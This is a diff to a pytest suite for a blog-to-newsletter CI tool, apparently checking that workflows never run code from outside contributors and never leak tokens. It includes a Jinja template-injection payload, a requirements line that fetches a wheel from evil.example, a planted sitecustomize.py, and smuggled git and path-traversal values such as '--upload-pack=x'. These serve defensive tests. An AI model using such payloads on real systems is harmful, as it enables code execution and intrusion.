@@ -1,20 +1,38 @@
-"""By itself, at a code host: every shell step of every workflow runs in a clean clone, against a code host on loopback."""
+"""By itself, at a code host: each shell step of each workflow runs in a clean clone, with a code host on loopback."""
 
 import json
 import re
 import subprocess
 import sys
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 import yaml
-from code_host import TOKEN, Runner, forge_in, git
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from pydantic import SecretStr
 
+from code_host import TOKEN, Runner, forge_in, git
+from pipeline.app.hosts import comment
+from pipeline.app.hosts.asked import MARK, Asked
+from pipeline.app.hosts.branch import Branch
+from pipeline.app.hosts.runs import run_of
+from pipeline.app.hosts.told import told
+from pipeline.app.lasting import see_that_it_lasts
 from pipeline.cli.init import _new_files, make
+from pipeline.errors import CodeHostError, UsageError
+from pipeline.model import Finding, Severity
 from pipeline.post import PROMPT
+from pipeline.settings import load
 from pipeline.settings.explained import explained
 
 REPOSITORY = Path(__file__).parents[1]
+SERVED = {
+    "BYLINE_SEND_UNSUBSCRIBE_URL": "https://letter.example/unsubscribe",
+    "BYLINE_PUBLISH_SUBSCRIBE_URL": "https://letter.example/subscribe",
+}
 HOSTS = ("github", "gitlab", "forgejo")
 VALUES = {
     "name": "Ana Ruiz",
@@ -35,6 +53,8 @@ kind: edition
 ---
 Words of mine on the yard.
 """
+
+RUNS = "{% block container %}{{ cycler.__init__.__globals__.os.mknod('RAN') }}{% endblock %}"
 
 
 @pytest.fixture(scope="module")
@@ -108,7 +128,7 @@ def commit(site, words):
     git(site, "commit", "--quiet", "-m", words)
 
 
-def run(runner, host, site, name, jobs=(), branch="main", skip=()):
+def run(runner, host, site, name, jobs=(), branch="main", *, skip=()):  # noqa: PLR0913
     """Run one of the four workflows; return the exit code of each job."""
     if host == "gitlab":
         text = (site / ".gitlab-ci.yml").read_text(encoding="utf-8")
@@ -141,7 +161,9 @@ def test_the_check_comments_what_it_finds_in_changed_posts_in_one_comment(host, 
     site, runner = begun(host)
     git(site, "switch", "--quiet", "--create", "words")
     post = site / "content/posts/2026-11-24-cranes.md"
-    text = POST.format(date="2026-11-24", title="Cranes") + "\n## [Cranes](https://one.example/1)\n\n> Not what it says.\n"
+    text = (
+        POST.format(date="2026-11-24", title="Cranes") + "\n## [Cranes](https://one.example/1)\n\n> Not what it says.\n"
+    )
     post.write_text(text, encoding="utf-8")
     for words in ("begun", "more"):
         post.write_text(post.read_text(encoding="utf-8") + f"\n{words}\n", encoding="utf-8")
@@ -167,16 +189,19 @@ def test_what_strangers_propose_is_read_and_never_run(host, begun, tmp_path):
     with (site / "mkdocs.yml").open("a", encoding="utf-8") as settings:
         settings.write("\nhooks: [hook.py]\n")
     for template in (site / "overrides").rglob("*.html"):
-        bad = "{{ ''.__class__.__base__.__subclasses__ }}{{ cycler.__init__.__globals__.os.mknod('%s') }}" % ran
-        template.write_text(bad, encoding="utf-8")
+        template.write_text(RUNS.replace("RAN", str(ran)), encoding="utf-8")
     (site / "requirements.txt").write_text("byline @ https://evil.example/byline.whl\n", encoding="utf-8")
     (site / "sitecustomize.py").write_text(f"open({str(ran)!r}, 'w')\n", encoding="utf-8")
     (site / "content/posts/2026-11-24-x.md").write_text(POST.format(date="2026-11-24", title="X"), encoding="utf-8")
     commit(site, "theirs")
     git(site, "push", "--quiet", "origin", "theirs")
     codes = run(runner, host, site, "check", ("check",), "theirs", skip=("comment",))
-    assert codes == {"check": 0}, runner.said
+    assert codes == {"check": 1}, runner.said  # it has no words, as was seen
+    assert "1 changed post, 1 error" in runner.said
     assert not ran.exists()
+    [place] = [path.parent for path in runner.folder.glob("job*/site/report")]
+    runner.shell("byline ci report --since origin/main --preview", place, {})
+    assert ran.exists()  # so it would have been seen
 
 
 @pytest.mark.parametrize("host", HOSTS)
@@ -204,9 +229,7 @@ def test_without_a_memory_the_send_job_refuses_and_says_how_to_send_from_home(ho
 
 
 def merge_an_edition(site):
-    import datetime
-
-    today = datetime.datetime.now(datetime.UTC).date()
+    today = datetime.now(UTC).date()
     (site / f"content/posts/{today}-yard.md").write_text(POST.format(date=today, title="Yard"), encoding="utf-8")
     commit(site, "An edition")
     git(site, "push", "--quiet", "origin", "main")
@@ -214,7 +237,7 @@ def merge_an_edition(site):
 
 @pytest.mark.parametrize("host", HOSTS)
 @pytest.mark.parametrize("store_url", ["postgresql"], indirect=True)
-def test_the_send_job_sends_the_merged_edition_once_however_often_it_runs(host, begun, mailbox, store, store_url):
+def test_the_send_job_sends_the_merged_edition_once_however_often_it_runs(host, begun, mailbox, store_url):
     from sending import filled
 
     filled(store_url, 3).close()
@@ -239,3 +262,151 @@ def test_every_shell_step_of_the_workflows_is_among_those_that_these_tests_run(h
     else:
         files = {path.stem for path in (tmp_path / f"site/.{host}/workflows").iterdir()}
         assert files == {"weekly", "check", "publish", "send"}
+
+
+# -- the parts
+
+
+def of_github(forge, event="", **more):
+    return run_of(of_run("github", forge, event, Path("/nowhere")) | more)
+
+
+def test_a_run_is_known_by_what_its_code_host_says(forge, tmp_path):
+    event = tmp_path / "event"
+    event.write_text('{"pull_request": {"number": 5}}', encoding="utf-8")
+    assert {host: run_of(of_run(host, forge, event, tmp_path)).host for host in HOSTS} == {host: host for host in HOSTS}
+    assert {run_of(of_run(host, forge, event, tmp_path)).request for host in HOSTS} == {5}
+
+
+@pytest.mark.parametrize(
+    "told", ["", "[]", "{", '{"pull_request": {"number": true}}', '{"pull_request": 3}', "[" * 99999]
+)
+def test_an_event_that_tells_of_no_pull_request_is_about_none(told, forge, tmp_path):
+    (tmp_path / "event").write_text(told, encoding="utf-8")
+    run = of_github(forge, tmp_path / "event")
+    assert run.request is None
+    with pytest.raises(UsageError, match="about no pull request"):
+        comment(run, SecretStr(TOKEN), "words")
+
+
+@pytest.mark.parametrize(
+    ("variable", "value"),
+    [
+        ("GITHUB_API_URL", "http://api.example"),
+        ("GITHUB_API_URL", "https://ana:secret@api.example"),
+        ("GITHUB_API_URL", "https://[x"),
+        ("GITHUB_SERVER_URL", "file:///srv"),
+        ("GITHUB_REPOSITORY", "ana/site/../../admin"),
+        ("GITHUB_REF_NAME", "--upload-pack=x"),
+        ("GITHUB_API_URL", ""),
+        ("GITHUB_ACTIONS", "false"),
+    ],
+)
+def test_a_token_goes_to_no_place_that_is_not_safe(variable, value, forge):
+    with pytest.raises(UsageError):
+        of_github(forge, **{variable: value})
+
+
+@pytest.mark.parametrize(
+    ("status", "said"),
+    [(401, f"bad {TOKEN}"), (403, "no"), (404, "no"), (422, "no commits between"), (500, "x" * 9999), (302, "there")],
+)
+def test_a_no_of_the_code_host_is_told_without_the_token(status, said, forge):
+    forge.answer = (status, {"message": said})
+    with pytest.raises(CodeHostError) as told:
+        Asked(of_github(forge), SecretStr(TOKEN)).open_request("draft/x", "X", "words")
+    assert str(status) in str(told.value)
+    assert TOKEN not in str(told.value)
+    assert len(str(told.value)) < 600
+
+
+@pytest.mark.parametrize(
+    "said", [None, {}, [3], [{"id": "x", "body": MARK}], [{"body": None}], [{"id": 1, "body": "other"}]]
+)
+def test_a_list_of_comments_that_holds_none_of_ours_gets_one(said, forge):
+    forge.answer = (200, said)
+    assert Asked(of_github(forge), SecretStr(TOKEN)).comment(5, "words") == "Commented on 5."
+
+
+def test_a_code_host_that_is_not_there_is_told(forge):
+    away = of_github(forge, GITHUB_API_URL="http://127.0.0.1:9")
+    with pytest.raises(CodeHostError, match="gives no answer"):
+        Asked(away, SecretStr(TOKEN)).comment(5, "words")
+
+
+def test_a_wrong_token_pushes_nothing_and_asks_nobody(forge, tmp_path):
+    git(tmp_path, "clone", "--quiet", forge.bare, "mine")
+    (tmp_path / "mine/a").write_text("a", encoding="utf-8")
+    commit(tmp_path / "mine", "a")
+    run = of_github(forge)
+    branch = Branch(tmp_path / "mine", run.remote, SecretStr("wrong"))
+    with pytest.raises(CodeHostError, match="git push says") as told:
+        branch.push("HEAD", "main")
+    assert "wrong" not in str(told.value)
+    assert forge.branches() == []
+
+
+words = st.text(st.sampled_from("`@#ab \n\r<&*:~"), max_size=60)
+
+
+@given(reason=words, remedy=words)
+def test_words_of_strangers_stand_as_code_and_nowhere_else(reason, remedy):
+    path = Path("/site/content/posts/x.md")
+    found = Finding(rule="r", severity=Severity.ERROR, path=path, line=3, reason=reason, remedy=remedy)
+    tokens = MarkdownIt("commonmark").parse(told(Path("/site"), [path], [found]))
+    fences = [token for token in tokens if token.type == "fence"]
+    assert len(fences) == 1
+    others = "".join(token.content for token in tokens if token.type == "inline")
+    assert others == "**`content/posts/x.md`** has 1 error and no more to look at."
+
+
+@pytest.mark.parametrize(
+    ("value", "is_thrown_away"), [("true", True), ("1", True), ("", False), ("false", False), ("0", False)]
+)
+def test_a_machine_that_is_thrown_away_is_known_by_ci(value, is_thrown_away, site):
+    assert load(site, {"CI": value}).is_thrown_away is is_thrown_away
+
+
+@pytest.mark.parametrize(
+    ("environment", "refused"),
+    [
+        ({}, "DATABASE_URL"),
+        ({"DATABASE_URL": "sqlite:////srv/byline.db"}, "DATABASE_URL"),
+        ({"BYLINE_SEND_WAY": "buttondown"}, None),
+        ({"BYLINE_SEND_WAY": "listmonk"}, None),
+        ({"BYLINE_SEND_WAY": "postmark"}, "DATABASE_URL"),
+        ({"DATABASE_URL": "postgres://ana@db.example/byline"}, None),
+        ({"DATABASE_URL": "postgresql://ana@db.example/byline", **SERVED}, "BYLINE_TOKEN_KEYS"),
+        ({"DATABASE_URL": "postgresql://ana@db.example/byline", **SERVED, "BYLINE_TOKEN_KEYS": "k" * 32}, None),
+    ],
+)
+def test_what_must_outlive_a_machine_is_looked_for_before_a_letter_leaves_it(environment, refused, site):
+    see_that_it_lasts(load(site, environment), "x")  # at home nothing of it matters
+    settings = load(site, environment | {"CI": "true"})
+    if refused is None:
+        see_that_it_lasts(settings, "x")
+    else:
+        with pytest.raises(UsageError, match=refused):
+            see_that_it_lasts(settings, "x")
+
+
+@pytest.mark.parametrize("words", [("--due",), ("x", "--at", "2026-12-01T08:00")])
+def test_what_is_planned_on_a_machine_that_is_thrown_away_would_be_forgotten(words, site, byline, monkeypatch):
+    (site / "content/posts/2026-11-23-x.md").write_text(POST.format(date="2026-11-23", title="X"), encoding="utf-8")
+    assert byline("send", *words, at=site)[0] == 0
+    monkeypatch.setenv("CI", "true")
+    code, _, err = byline("send", *words, at=site)
+    assert (code, "DATABASE_URL" in err) == (2, True)
+
+
+def test_the_newest_edition_is_that_of_these_days_on_the_site(site, open_app):
+    app = open_app(site)
+    with pytest.raises(UsageError, match="no edition"):
+        app.letters.newest()
+    for day in ("2026-11-01", "2026-11-30"):  # one too old, one of the days to come
+        (site / f"content/posts/{day}-x.md").write_text(POST.format(date=day, title="X"), encoding="utf-8")
+    with pytest.raises(UsageError, match="2026-11-01-x"):
+        app.letters.newest()
+    for day in ("2026-11-20", "2026-11-22"):
+        (site / f"content/posts/{day}-x.md").write_text(POST.format(date=day, title="X"), encoding="utf-8")
+    assert app.letters.newest().stem == "2026-11-22-x"
